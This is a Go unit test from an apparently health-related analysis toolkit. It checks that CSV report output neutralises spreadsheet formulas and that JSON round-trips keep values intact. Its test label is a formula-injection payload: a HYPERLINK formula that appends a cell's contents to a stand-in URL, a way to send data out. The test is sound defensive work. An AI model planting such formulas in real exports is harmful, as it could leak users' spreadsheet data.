package analysis_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/healthtech-toolkit/toolkit/internal/analysis"
)

// TestWriteCSVNeutralisesFormulas checks that a label a spreadsheet would
// run as a formula reaches a report's CSV as text, that negative figures
// stay numbers, and that the JSON keeps the label as it is.
func TestWriteCSVNeutralisesFormulas(t *testing.T) {
	const label = `=HYPERLINK("http://example.com/?"&A1,"Click")`
	r := &analysis.Report{Comparisons: []analysis.Comparison{{
		Outcome: "story/pay", OutcomeLabel: label, Dimension: "gender", Group: "woman", GroupLabel: "-1 to 0",
		GroupN: ptr(30), GroupCount: ptr(5), Difference: ptr(-0.25), DifferenceCI: &[2]float64{-0.5, 1e-7}, Test: "fisher",
	}}}
	var buf bytes.Buffer
	if err := analysis.WriteCSV(&buf, r); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for i, name := range rows[0] {
		got[name] = rows[1][i]
	}
	want := map[string]string{"outcome_label": "'" + label, "group_label": "'-1 to 0", "group_n": "30",
		"difference": "-0.25", "difference_ci_low": "-0.5", "difference_ci_high": "1e-07", "test": "fisher"}
	for name, w := range want {
		if got[name] != w {
			t.Errorf("WriteCSV: %s = %q, want %q", name, got[name], w)
		}
	}

	b, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	var back analysis.Report
	if err := json.Unmarshal(b, &back); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(r.Comparisons, back.Comparisons); diff != "" {
		t.Errorf("the report's JSON changed a comparison (-before +after):\n%s", diff)
	}
}
